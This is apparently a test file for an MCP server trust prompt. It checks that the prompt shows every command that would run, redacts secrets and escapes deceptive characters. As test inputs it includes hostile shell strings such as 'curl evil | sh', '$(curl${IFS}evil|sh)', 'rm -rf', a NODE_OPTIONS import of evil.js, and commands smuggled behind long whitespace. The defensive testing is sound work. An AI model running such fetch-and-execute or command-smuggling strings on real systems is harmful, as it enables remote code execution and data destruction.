"""The question whether servers may start says all that would run, and no secret."""

from __future__ import annotations

import pytest

from agenthost.agents.inputs import Answers
from agenthost.host.customizations.service import DeclaredServer
from agenthost.host.mcp.trust_question import LONGEST, trust_answer, trust_request
from agenthost.mcp.types import ServerDeclaration


def of(
    declaration: ServerDeclaration, folder: str = "/r", client: str | None = None
) -> DeclaredServer:
    return DeclaredServer("c-1", declaration, folder, "workspace", True, client)


def line(declaration: ServerDeclaration) -> str:
    request = trust_request([of(declaration)])
    return str(request["questions"][0]["message"].splitlines()[0])


def test_a_command_is_shown_as_a_shell_would_read_it() -> None:
    server = ServerDeclaration("it", command=("sh", "-c", "echo 'a b'; rm x"), cwd="sub")
    assert line(server) == """it: sh -c 'echo '"'"'a b'"'"'; rm x' (in sub)"""


def test_values_are_left_out_and_names_are_not() -> None:
    env = {"KEY": "hush", **{f"V{number}": "hush" for number in range(20)}}
    server = ServerDeclaration(
        "it", command=("x", "--token=hush"), env=env, host_variables=("HOME",)
    )
    shown = line(server)
    assert "hush" not in shown
    assert shown.startswith("it: x --token=[redacted]; with the variables KEY, V0")
    assert "and 5 more; takes HOME of this host's environment" in shown


def test_what_follows_an_option_for_a_secret_is_left_out() -> None:
    command = ("srv", "--token", "hush", "--verbose", "--api-key", "hush", "--password", "-x", "y")
    assert line(ServerDeclaration("it", command=command)) == (
        "it: srv --token [redacted] --verbose --api-key [redacted] --password -x y"
    )


def test_an_address_is_shown_without_who_signs_in_and_what_is_asked() -> None:
    url = "https://me:hush@api.example:8443/mcp?key=hush#hush"
    server = ServerDeclaration("it", url=url, headers={"Authorization": "Bearer hush"})
    assert line(server) == "it: https://api.example:8443/mcp?…; with the header Authorization"


def test_what_leaves_this_machine_for_all_to_read_is_told() -> None:
    for url in ("http://api.example/mcp", "http://127.0.0.1.example/mcp", "http://10.0.0.1/mcp"):
        assert "not encrypted" in line(ServerDeclaration("it", url=url))
    for url in (
        "https://api.example/mcp",
        "http://127.0.0.1:1/mcp",
        "http://[::1]/mcp",
        "http://localhost/",
    ):
        assert "not encrypted" not in line(ServerDeclaration("it", url=url))


def test_nothing_hides_behind_characters_or_length() -> None:
    server = ServerDeclaration("it", command=("x", "a\u202eb\n\x1b[2Jc"))
    assert line(server) == r"it: x 'a\u202eb\n\x1b[2Jc'"
    server = ServerDeclaration("it", command=("x", "a\u3164b\u2800c\u0337", " " * 900 + "; y"))
    assert line(server) == r"it: x 'a\u3164b\u2800c\u0337' '[900 spaces]; y'"
    server = ServerDeclaration("it", url="https://\u0430pi.example/mcp")
    assert line(server) == r"it: https://\u0430pi.example/mcp"
    server = ServerDeclaration("it", command=("x", "y" * 5000, "; rm z"))
    shown = line(server)
    assert shown.endswith("y '; rm z'")
    assert f"[… {5011 - LONGEST} characters are not shown here …]" in shown


@pytest.mark.parametrize(
    "word",
    [
        "token=$(curl${IFS}evil|sh)",
        "echo '\"secret\": \"'\nrm -rf x\n'\"'",
        "password=`evil`",
        "authorization:|evil",
        "python -X bearer evil.py",
    ],
)
def test_what_could_be_run_is_shown_whatever_it_is_called(word: str) -> None:
    assert "[redacted]" not in line(ServerDeclaration("it", command=("sh", "-c", word)))


@pytest.mark.parametrize(
    "words",
    [
        "npx --token evil",
        "npx -y --loglevel silent --token evil",
        "/usr/bin/npm exec --api-key evil",
        "uv tool run --secret evil",
        "python3.12 --token evil",
        "python3 -Xtoken evil.py",
        "server -token evil",
    ],
)
def test_what_a_launcher_would_run_is_shown_behind_any_option(words: str) -> None:
    assert line(ServerDeclaration("it", command=tuple(words.split()))) == f"it: {words}"


@pytest.mark.parametrize(
    "words",
    ["npx -y good --token hush", "python -m good --api-key hush", "node good.js --secret hush"],
)
def test_a_secret_behind_what_is_run_is_not_shown(words: str) -> None:
    shown = words.replace("hush", "[redacted]")
    assert line(ServerDeclaration("it", command=tuple(words.split()))) == f"it: {shown}"


def test_a_hidden_word_is_not_the_next_one() -> None:
    server = ServerDeclaration("it", command=("python", "-X", "authorization:", "evil.py"))
    assert line(server) == "it: python -X authorization: evil.py"


def test_values_that_decide_what_runs_are_shown() -> None:
    env = {
        "NODE_OPTIONS": "--import=./evil.js",
        "PATH": "bin",
        "X": "curl evil | sh",
        "Y": "./evil",
        "REGION": "eu-1",
        "NPM_TOKEN": "hush",
        "PGURL": "postgres://me:hush@db/x",
    }
    assert line(ServerDeclaration("it", command=("sh", "-c", "$X"), env=env)) == (
        "it: sh -c '$X'; with NODE_OPTIONS=--import=./evil.js; with PATH=bin; "
        "with X='curl evil | sh'; with Y=./evil; with the variables REGION, NPM_TOKEN, PGURL"
    )


def test_all_that_is_taken_of_the_hosts_environment_is_named() -> None:
    names = tuple(f"V{number:02}" for number in range(40))
    server = ServerDeclaration("it", command=("x",), host_variables=names)
    assert all(name in line(server) for name in names)


def test_one_question_is_asked_for_all_of_them() -> None:
    servers = [
        of(ServerDeclaration("a", command=("a",)), "/one"),
        of(ServerDeclaration("b", command=("b",)), "/two"),
        of(ServerDeclaration("c", command=("c",)), "/two", "client-7"),
    ]
    request = trust_request(servers)
    assert request["message"] == (
        "Start 3 MCP servers of /one and of /two and of a client's plugin, in /two?"
    )
    (question,) = request["questions"]
    assert question["message"].splitlines()[:3] == ["a: a", "b: b", "c: c"]
    assert [option["id"] for option in question["options"]] == ["start", "notHere", "never"]


def test_only_what_was_chosen_is_an_answer() -> None:
    assert trust_answer(Answers("accept", {"trust": "start"})) == "start"
    assert trust_answer(Answers("accept", {"trust": "something else"})) is None
    assert trust_answer(Answers("accept", {})) is None
    assert trust_answer(Answers("decline", {"trust": "start"})) is None


def test_a_path_that_follows_an_option_for_a_secret_is_shown() -> None:
    command = ("srv", "--token", "./evil.sh", "--api-key", "$(evil)")
    told = line(ServerDeclaration("it", command=command))
    assert "./evil.sh" in told
    assert "$(evil)" in told
